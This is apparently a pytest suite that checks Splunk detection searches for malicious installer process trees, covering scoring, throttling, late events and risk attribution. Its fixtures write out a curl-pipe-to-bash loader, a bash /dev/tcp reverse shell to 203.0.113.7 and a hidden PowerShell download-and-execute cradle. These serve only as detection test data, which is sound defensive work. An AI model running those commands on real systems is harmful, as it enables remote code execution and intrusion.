"""Every saved search, executed: it finds what it must and stays silent on what looks alike."""

from __future__ import annotations

import json
import re
from collections.abc import Iterable
from copy import copy
from pathlib import Path

import build_detections
import pytest
from spl.app import App
from spl.cases import FOLDER, NOW, Case, differences, load
from spl.errors import SplError
from spl.matching import Row
from spl.risk import risk_events

ROOT = Path(__file__).resolve().parent.parent
SEARCHES = {build_detections.slug(s["name"]): s for s in build_detections.searches()}
CASES = [case for path in sorted(FOLDER.glob("*.yml")) for case in load(path)]


@pytest.fixture(scope="session")
def app(built_app: Path) -> App:
    return App(built_app, NOW)


def stanza(search: str) -> str:
    return build_detections.stanza_name(SEARCHES[search])


@pytest.mark.parametrize("case", CASES, ids=lambda c: f"{c.search}: {c.kind}: {c.name}")
def test_search(app: App, case: Case) -> None:
    result = app.run_saved(stanza(case.search), case.data, case.macros)
    assert not [m for m in result.messages if m.startswith("ERROR")]
    assert differences(case.expect, result.rows) == []


@pytest.mark.parametrize("name", sorted(SEARCHES))
def test_search_has_a_hit_and_a_near_miss(name: str) -> None:
    assert {c.kind for c in CASES if c.search == name} == {"hits", "near_misses"}


def test_every_data_set_belongs_to_a_search() -> None:
    assert {c.search for c in CASES} - SEARCHES.keys() == set()


@pytest.mark.parametrize("name", sorted(SEARCHES))
def test_search_without_data_returns_nothing_and_no_error(app: App, name: str) -> None:
    result = app.run_saved(stanza(name), {})
    assert result.rows == []
    assert not [m for m in result.messages if m.startswith("ERROR")]


@pytest.mark.parametrize("name", sorted(SEARCHES))
def test_a_broken_filter_breaks_its_own_search_only(app: App, name: str) -> None:
    broken = {f"{name}_filter": "search dest="}
    with pytest.raises(SplError, match="search ends too early"):
        app.run_saved(stanza(name), {}, broken)
    other = next(c for c in CASES if c.search != name and c.kind == "hits")
    assert app.run_saved(stanza(other.search), other.data, {**other.macros, **broken}).rows


def test_the_conf_files_are_what_the_sources_say() -> None:
    for file, text in (
        ("macros.conf", build_detections.macros_conf()),
        ("savedsearches.conf", build_detections.savedsearches_conf()),
    ):
        path = ROOT / "package" / "default" / file
        assert path.read_text(encoding="utf-8") == text, "run python tools/build_detections.py"


def written(app: App, when: float, hosts: list[str], package: str) -> dict[str, list[Row]]:
    """What the summary search writes of an install on some hosts."""
    events = [
        {"_time": when, "dest": host, "process_id": 7, "process_name": "dpkg",
         "process": f"dpkg -i {package}"}
        for host in hosts
    ]  # fmt: skip
    run = copy(app)
    run.now = when + 1200
    rows = run.run_saved(stanza("installer_trees___summary"), {"Endpoint.Processes": events}).rows
    index = {"index": "summary", "source": "Installer Trees - Summary"}
    return {"events": [{**row, **index} for row in rows]}


def test_the_prevalence_baseline_remembers_the_most_hosts_and_the_first_time(app: App) -> None:
    """Three days, one kind of tree: on two hosts, on one, and with a later release on three."""
    search = SEARCHES["installer_trees___prevalence_baseline"]["search"]
    lookups = app.own_lookups()
    for day, hosts in enumerate([["a", "b"], ["a"], ["a", "b", "c"]]):
        when = NOW - 300_000 + 86_400 * day
        app.run(search, written(app, when, hosts, f"tool-1.{day}.deb"), lookups=lookups)
        (entry,) = lookups["installerscore_baseline"].rows
        assert (entry["hosts"], entry["_key"]) == ("32"[day < 2], entry["tree_fingerprint"])
        assert float(entry["first_seen"]) == NOW - 300_000
        assert float(entry["expires"]) == NOW - 300_000 + 86_400 * day + 90 * 86_400


def test_an_expired_entry_of_the_prevalence_baseline_counts_for_nothing(app: App) -> None:
    """Or a tree that fifty hosts had a year ago would look ordinary when it comes back on one."""
    search = SEARCHES["installer_trees___prevalence_baseline"]["search"]
    lookups = app.own_lookups()
    for ago, hosts in ((400 * 86_400, ["a", "b", "c"]), (300, ["b"])):
        app.run(search, written(app, NOW - ago, hosts, "tool-1.0.deb"), lookups=lookups)
    (entry,) = lookups["installerscore_baseline"].rows
    assert entry["hosts"] == "1"
    assert float(entry["first_seen"]) == NOW - 300


def test_the_what_if_report_shows_by_how_much_trees_move(app: App) -> None:
    quiet = {"_time": NOW - 60, "dest": "a", "process_id": 7, "process_name": "msiexec.exe",
             "process": "msiexec /i C:\\pkg\\a.msi /qn"}  # fmt: skip
    keys = stanza("installer_score___what_if")
    (row,) = app.run_saved(keys, {"Endpoint.Processes": [quiet]}).rows
    assert float(row["score_then"]) == 25
    assert float(row["change"]) == 25 - float(row["score_now"]) > 0


def test_the_what_if_report_shows_no_tree_that_only_one_of_its_searches_saw_whole(
    app: App,
) -> None:
    """Each reads at most maxevents, and not the same events where there are more."""
    rows = burst(NOW - 600, guids=True, root=True)
    keys = app.searches[stanza("installer_score___what_if")]
    first, rest = keys["search"].split("append maxtime", 1)
    cut = "`installer_events`\n| where process_id<10"
    assert rest.count("`installer_events`") == 1
    search = f"{first}append maxtime{rest.replace('`installer_events`', cut)}"
    assert not app.run(search, {"Endpoint.Processes": rows}, "-1d").rows


READS_SUMMARY = "search earliest=-6h@m latest=now `installer_summary`"
"""The definition of installer_scored in docs/scale.md."""


def test_rules_that_read_the_summary_find_the_same_trees(app: App) -> None:
    """What docs/scale.md says under "Score once"."""
    script = 'powershell -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(1)"'
    data = {
        "Endpoint.Processes": [
            {"_time": NOW - 600, "dest": "a", "user": "ana", "process_id": 7,
             "process_name": "msiexec.exe", "process": "msiexec /i C:\\Users\\u\\Downloads\\a.msi"},
            {"_time": NOW - 599, "dest": "a", "user": "ana", "process_id": 8,
             "process_name": "powershell.exe", "process": script, "parent_process_id": 7,
             "parent_process_name": "msiexec.exe"},
        ]
    }  # fmt: skip
    written = app.run_saved(stanza("installer_trees___summary"), data).rows
    events = [
        {**row, "index": "summary", "source": "Installer Trees - Summary"} for row in written * 2
    ]
    for rule in ("installer_process_tree_score", "installer_process_tree_score_high"):
        (scored,) = app.run_saved(stanza(rule), data).rows
        macros = {"installer_scored": READS_SUMMARY}
        (read,) = app.run_saved(stanza(rule), {"events": events}, macros).rows
        for field in ("installer_tree_id", "installer_score", "risk_score", "risk_message", "dest"):
            assert str(read[field]) == str(scored[field]), field


@pytest.mark.parametrize(("later", "found"), [(-12_000, 0), (-1_200, 1)], ids=["rest", "goes on"])
@pytest.mark.parametrize(
    "rule", ["installer_process_tree_score", "installer_process_tree_score_high"]
)
def test_the_rest_of_a_tree_that_was_seen_whole_is_no_finding_of_its_own(
    app: App, rule: str, later: int, found: int
) -> None:
    """Its root lies before the range; what it does in the last hour counts, by host and program."""
    top = {"dest": "a", "process_name": "npm", "process": "npm install x"}
    loader = "bash -c curl -fsSL http://203.0.113.7/a | bash"
    rows = [
        {"_time": NOW - 18_000, **top, "process_id": 7},
        {"_time": NOW - 13_800, "dest": "a", "process_id": 8, "parent_process_id": 7,
         "process_name": "bash", "process": loader, "parent_process_name": "npm",
         "parent_process": "npm install x"},
        {"_time": NOW + later, "dest": "a", "process_id": 9, "parent_process_id": 8,
         "process_name": "bash", "process": "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
         "parent_process_name": "bash", "parent_process": loader},
    ]  # fmt: skip
    written = app.run_saved(stanza(rule), {"Endpoint.Processes": rows}).rows
    assert len(written) == found
    assert all(row["tree_key"].startswith("a:") for row in written)
    whole = [{**row, "_time": row["_time"] + 10_000} for row in rows]
    written = app.run_saved(stanza(rule), {"Endpoint.Processes": whole}).rows
    assert written
    assert [row["tree_key"] for row in written] == [row["installer_tree_id"] for row in written]


@pytest.mark.parametrize("guids", [True, False], ids=["guids", "no guids"])
@pytest.mark.parametrize("gap", [600, 7_200, 11_400, 15_000])
@pytest.mark.parametrize(
    "search", ["installer_process_tree_score_high", "installer_trees___summary"]
)
def test_a_slow_install_is_one_finding_and_one_tree(
    app: App, search: str, gap: int, guids: bool
) -> None:
    """Hourly runs over a package whose script acts only after a while.

    After more than 1 h 50 min it can be two without GUIDs, as docs/detections.md says.
    """
    script = 'powershell -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(1)"'
    install = "msiexec /i C:\\Users\\u\\Downloads\\a.msi"
    first = {"_time": 0, "dest": "a", "process_id": 7, "process_name": "msiexec.exe",
             "process": install}  # fmt: skip
    later = {"_time": gap, "dest": "a", "process_id": 8, "parent_process_id": 7, "process": script,
             "process_name": "powershell.exe", "parent_process_name": "msiexec.exe",
             "parent_process": install}  # fmt: skip
    if guids:
        first["process_guid"] = later["parent_process_guid"] = "{G-1}"
        later["process_guid"] = "{G-2}"
    rows = [{**row, "_time": NOW + row["_time"]} for row in (first, later)]
    told: dict[str, int] = {}
    for hour in range(gap // 3600, gap // 3600 + 6):
        run = copy(app)
        run.now = NOW + 400 + 3600 * hour
        for row in run.run_saved(stanza(search), {"Endpoint.Processes": rows}).rows:
            tree = str(row["installer_tree_id" if "summary" in search else "tree_key"])
            told[tree] = max(told.get(tree, 0), int(float(row["installer_score"])))
    wanted = 2 if gap == 7_200 and not guids else 1
    assert [score >= 60 for score in told.values()].count(True) == wanted, told


def burst(last: float, guids: bool = False, root: bool = False) -> list[Row]:
    """A maintainer script that opens a reverse shell, 20 seconds; dpkg's own event is lost."""
    steps = [
        (7, "dpkg", "dpkg -i /tmp/x.deb"),
        (8, "dash", "/bin/sh /var/lib/dpkg/info/x.postinst configure"),
        (9, "bash", "bash -c curl -fsSL http://203.0.113.7/a | bash"),
        (10, "bash", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"),
    ]
    rows = [
        {"_time": last - 5 * (10 - pid), "dest": "web1", "process_id": pid, "process_name": name,
         "process": line}
        for pid, name, line in steps
    ]  # fmt: skip
    for above, row in zip(rows, rows[1:]):
        row.update({f"parent_{k}": above[k] for k in ("process_id", "process_name", "process")})
    if guids:
        for row in rows:
            row["process_guid"] = f"{{G-{row['process_id']}}}"
            row["parent_process_guid"] = f"{{G-{row['process_id'] - 1}}}"
    return rows if root else rows[1:]


def hourly(app: App, name: str, rows: list[Row], late: float, runs: Iterable[int]) -> list[Row]:
    """What hourly runs of a search find, of events that arrive so many seconds late."""
    found = []
    for hour in runs:
        run = copy(app)
        run.now = NOW + 3600 * hour
        seen = [row for row in rows if row["_time"] + late <= run.now]
        found += run.run_saved(stanza(name), {"Endpoint.Processes": seen}).rows
    return found


@pytest.mark.parametrize("minute", [1, 59])
@pytest.mark.parametrize(
    ("late", "guids", "root"),
    [(3600, False, False), (4200, False, False), (7100, True, False), (7100, False, True)],
    ids=["an hour", "70 minutes", "two hours, GUIDs", "two hours, root"],
)
def test_what_arrives_late_still_counts(
    app: App, minute: int, late: int, guids: bool, root: bool
) -> None:
    """As docs/detections.md has it, wherever in the hour it happens."""
    rows = burst(NOW + 60 * minute, guids, root)
    found = hourly(app, "installer_process_tree_score_high", rows, late, range(1, 5))
    assert {float(row["installer_score"]) >= 60 for row in found} == {True}
    assert len({row["tree_key"] for row in found}) == 1


@pytest.mark.parametrize("minute", [2, 8, 14, 40])
@pytest.mark.parametrize("slow", [False, True], ids=["late rest of a tree", "slow tree"])
def test_rules_that_run_after_the_summary_find_what_it_wrote(
    app: App, minute: int, slow: bool
) -> None:
    """The summary at ten past the hour, the rule at 25 past: docs/scale.md, "Score once"."""
    hour = 3600 * (NOW // 3600)
    rows = burst(hour + 60 * minute, guids=slow, root=slow)
    if slow:
        rows[0]["_time"] -= 11_000
    run, written, found = copy(app), [], []
    for start in range(hour + 600, hour + 4 * 3600, 3600):
        run.now = start
        seen = [row for row in rows if row["_time"] + (300 if slow else 4_100) <= start]
        told = run.run_saved(stanza("installer_trees___summary"), {"Endpoint.Processes": seen}).rows
        index = {"index": "summary", "source": "Installer Trees - Summary"}
        written += [{**row, **index} for row in told]
        run.now = start + 900
        rule = stanza("installer_process_tree_score_high")
        macros = {"installer_scored": READS_SUMMARY}
        rows_now = run.run_saved(rule, {"events": written}, macros).rows
        assert bool(rows_now) >= any(float(row["installer_score"]) >= 60 for row in told)
        found += rows_now
    assert len({row["tree_key"] for row in found}) == 1
    assert f"`` {READS_SUMMARY} ``" in (ROOT / "docs" / "scale.md").read_text(encoding="utf-8")


LOGS = {
    "EventCode=4104": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
    "appx_log": "XmlWinEventLog:Microsoft-Windows-AppXDeploymentServer/Operational",
    "sysmon_log": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
}
PRODUCTS = "$i=New-Object -ComObject WindowsInstaller.Installer;" + 500 * " "
SETTINGS = "\\REGISTRY\\A\\{1}\\LocalState\\admin_settings"


@pytest.mark.parametrize(
    ("search", "event", "field", "values"),
    [
        ("appx_deployment_of_suspicious_package",
         {"EventCode": "603", "Flags": "8388608", "PackageFullName": "a"},
         "Path", ["file:///D:/a.msix", "https://x.example/a.msix"]),
        ("code_editor_task_runs_package_manager_or_downloader",
         {"process_name": "bash", "process": "bash -c npx -y a", "parent_process_name": "code"},
         "process_current_directory", ["/home/ana/known", "/home/ana/cloned"]),
        ("installer_dns_query_to_unusual_domain",
         {"EventCode": "22", "QueryName": "a.duckdns.org"},
         "Image", ["C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\Installer\\MSI1.tmp"]),
        ("linux_package_installed_by_unusual_parent",
         {"process_name": "dpkg", "process": "dpkg -i /tmp/a.deb"},
         "parent_process_name", ["crond", "nginx"]),
        ("linux_package_manager_configuration_or_plugin_file",
         {"file_path": "/etc/apt/apt.conf.d/99a", "file_name": "99a", "action": "modified"},
         "process_guid", ["{management}", "{other}"]),
        ("macos_package_script_suspicious_child",
         {"process_name": "osascript", "process": "osascript x", "parent_process_name": "bash"},
         "parent_process", ["/bin/sh /tmp/PKInstallSandbox.1/Scripts/a/postinstall",
                            "/bin/sh /tmp/PKInstallSandbox.2/Scripts/b/postinstall"]),
        ("msi_library_loaded_by_program_outside_windows",
         {"EventCode": "7", "Image": "C:\\Tools\\a.exe"},
         "ImageLoaded", ["C:\\Windows\\System32\\msi.dll", "C:\\Tools\\msi.dll"]),
        ("msiexec_masquerading_or_renamed",
         {"process_name": "msiexec.exe", "process": "msiexec.exe"},
         "process_path", ["D:\\Lab\\msiexec.exe", "C:\\Users\\Public\\msiexec.exe"]),
        ("msiexec_spawned_discovery_command",
         {"process_name": "whoami.exe", "process": "whoami", "parent_process_name": "msiexec.exe"},
         "parent_process", ["MsiExec.exe -Embedding 1", "MsiExec.exe -Embedding 2"]),
        ("msiexec_started_by_document_script_or_server",
         {"process_name": "msiexec.exe", "process": "msiexec /i a.msi /qn"},
         "parent_process_name", ["wmiprvse.exe", "WINWORD.EXE"]),
        ("package_life_cycle_script_spawned_tool",
         {"process_name": "curl", "process": "curl -O http://x.example/a"},
         "parent_process", ["sh -c npm install known", "sh -c npm install other"]),
        ("powershell_script_block_installs_package", {"EventCode": "4104", "UserID": "S-1"},
         "ScriptBlockText", [PRODUCTS + "$i.Products", PRODUCTS + "$i.InstallProduct('a.msi')"]),
        ("powershell_script_block_installs_package",
         {"EventCode": "4104", "ScriptBlockText": PRODUCTS}, "UserID", ["S-1", "S-2"]),
        ("windows_installer_policy_weakened_in_registry",
         {"registry_path": SETTINGS, "action": "modified"}, "registry_value_data", ["1", "2"]),
    ],
)  # fmt: skip
def test_the_throttle_holds_back_no_other_act(
    app: App, search: str, event: Row, field: str, values: list[str]
) -> None:
    """What is known and harmless must not silence for a day what only looks like it."""
    text = SEARCHES[search]["search"]
    logs = [log for word, log in LOGS.items() if word in text]
    at = {"_time": NOW - 1200, "dest": "host1", **event}
    rows = [{**at, **({"index": "main", "source": logs[0]} if logs else {}), field: value}
            for value in values]  # fmt: skip
    kinds = re.findall(r"datamodel=(Endpoint\.\w+)", text)
    found = app.run_saved(stanza(search), {kinds[0] if kinds else "events": rows}).rows
    keys = {tuple(row[name] for name in SEARCHES[search]["throttle"]["fields"]) for row in found}
    assert len(keys) == 2


@pytest.mark.parametrize(
    ("search", "dataset", "field", "kind"),
    [
        ("known_malicious_package_file", "Endpoint.Filesystem", "file_path", "file"),
        ("known_malicious_package_indicator", "Endpoint.Processes", "process", "process"),
        ("installer_dns_query_to_unusual_domain", "events", "QueryName", "domain"),
    ],
)
def test_a_site_names_its_own_indicators_in_a_macro(
    app: App, search: str, dataset: str, field: str, kind: str
) -> None:
    """Without a change to the rule, which an upgrade would then not reach."""
    lookups = app.own_lookups()
    shipped = lookups["installerscore_indicators"]
    row = {"indicator": "ours.example", "kind": kind, "campaign": "ours"}
    lookups["my_indicators"] = shipped._replace(rows=[row])
    event = {"_time": NOW - 1200, "dest": "host1", field: "ours.example", "EventCode": "22"}
    sysmon = "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"
    data = {dataset: [{**event, "Image": "x.exe", "index": "main", "source": sysmon}]}
    keys = app.searches[stanza(search)]
    times = keys["dispatch.earliest_time"], keys["dispatch.latest_time"]
    own = {"installer_indicators": "my_indicators"}
    assert not app.run(keys["search"], data, *times, lookups=lookups).rows
    (found,) = app.run(keys["search"], data, *times, macros=own, lookups=lookups).rows
    assert "ours" in (found.get("campaign") or found["reason"])


@pytest.mark.parametrize(
    ("user", "objects"),
    [
        ("CORP\\ana", {("host1", "system"), ("CORP\\ana", "user")}),
        ("NT AUTHORITY\\SYSTEM", {("host1", "system")}),
    ],
)
def test_the_score_of_a_tree_counts_once_for_its_host_and_once_for_a_person(
    app: App, user: str, objects: set[tuple[str, str]]
) -> None:
    """Through the action's own loop, which prefers `risk_object` of a row to all that is named."""
    rule = stanza("installer_process_tree_score")
    attack = next(case for case in CASES if case.search == "installer_process_tree_score")
    events = [{**event, "user": user} for event in attack.data["Endpoint.Processes"]]
    (row,) = app.run_saved(rule, {"Endpoint.Processes": events}).rows
    entries = json.loads(app.searches[rule]["action.risk.param._risk"])
    written = risk_events(entries, row)
    assert len(written) == len(objects)
    assert {(event.risk_object, event.risk_object_type) for event in written} == objects
    assert {event.risk_score for event in written} == {float(row["installer_score"])}


@pytest.mark.parametrize(
    ("user", "counts"),
    [("CORP\\ana", True), ("ana", True), ("NT AUTHORITY\\SYSTEM", False), ("SYSTEM", False),
     ("root", False), ("CORP\\HOST7$", False), ("S-1-5-18", False), ("unknown", False),
     ("", False)],
)  # fmt: skip
@pytest.mark.parametrize(
    "search",
    [
        name
        for name, search in SEARCHES.items()
        if "user" in {entry["type"] for entry in search.get("risk", {}).get("objects", ())}
    ],
)
def test_only_a_person_collects_risk(app: App, search: str, user: str, counts: bool) -> None:
    """An account that every host has would collect the risk of all of them."""
    rule = stanza(search)
    case = next(c for c in CASES if c.search == search and c.kind == "hits")
    events = [{**event, "user": user} for event in case.data["Endpoint.Processes"]]
    entries = json.loads(app.searches[rule]["action.risk.param._risk"])
    for row in app.run_saved(rule, {"Endpoint.Processes": events}).rows:
        written = [e for e in risk_events(entries, row) if e.risk_object_type == "user"]
        assert [event.risk_object for event in written] == [user] * counts
